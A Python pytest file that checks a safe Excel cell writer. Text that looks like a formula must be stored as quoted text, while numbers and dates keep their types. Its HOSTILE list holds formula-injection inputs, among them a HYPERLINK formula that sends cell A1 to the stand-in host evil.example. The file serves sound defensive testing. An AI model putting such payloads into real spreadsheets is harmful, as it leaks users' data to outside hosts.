"""The safe-cell writer every Excel export uses: text never becomes a formula; numbers and dates stay typed.

Pure: workbooks are written to memory and read back with openpyxl, no database.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from onewindow.core.spreadsheet import append_row, cell_value

# Values an applicant, a clerk or a catalog editor can type, each a formula if taken at face value.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "=1+1",
    "+86-138-0000-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full-width, as a Chinese input method types it
]


def written(values: list[object]) -> tuple[bytes, list]:
    """Append ``values`` as one row; the saved bytes and the cells as openpyxl reads them back."""
    book = Workbook()
    append_row(book.active, values)
    out = io.BytesIO()
    book.save(out)
    data = out.getvalue()
    return data, list(load_workbook(io.BytesIO(data)).active[1])


def sheet_xml(data: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_like_a_formula_lands_as_quoted_text(value):
    data, [cell] = written([value])
    assert cell.data_type == "s"
    assert cell.quotePrefix  # Excel's mark for text typed as '=…: it stays text on edit
    # with lxml openpyxl escapes a CR (_x000D_); the standard library's writer leaves it bare and
    # XML reads a bare CR as a line feed: text either way
    assert cell.value in (value, value.replace("\r", "\n"))
    assert "<f>" not in sheet_xml(data)


def test_ordinary_text_is_text_without_a_quote_prefix():
    _data, [name, number_like] = written(["张三", "2026-001"])
    assert (name.value, name.data_type, name.quotePrefix) == ("张三", "s", False)
    assert (number_like.value, number_like.data_type) == ("2026-001", "s")


def test_numbers_dates_and_times_stay_typed():
    moment = datetime(2026, 10, 12, 1, 30, tzinfo=UTC)
    _data, cells = written([42, -7, 2.5, Decimal("12.30"), True, date(2026, 10, 12), moment, time(9, 0), None, 1])
    assert [c.value for c in cells[:5]] == [42, -7, 2.5, 12.3, True]
    assert [c.data_type for c in cells[:5]] == ["n", "n", "n", "n", "b"]
    assert not any(c.quotePrefix for c in cells[:5])  # a negative number is a number, not a formula
    assert cells[5].is_date
    assert cells[5].value.date() == date(2026, 10, 12)
    assert cells[6].is_date
    assert cells[6].value == datetime(2026, 10, 12, 9, 30)  # shown as Shanghai reads it
    assert cells[7].value == time(9, 0)
    assert cells[8].value is None


def test_control_characters_xml_cannot_hold_are_dropped():
    _data, [cell] = written(["张\x00三\x07"])
    assert cell.value == "张三"


def test_other_values_are_written_as_their_text():
    class Label:
        def __str__(self) -> str:
            return "=危险"

    assert cell_value(Label()) == "=危险"
    _data, [cell] = written([Label()])
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=危险", "s", True)
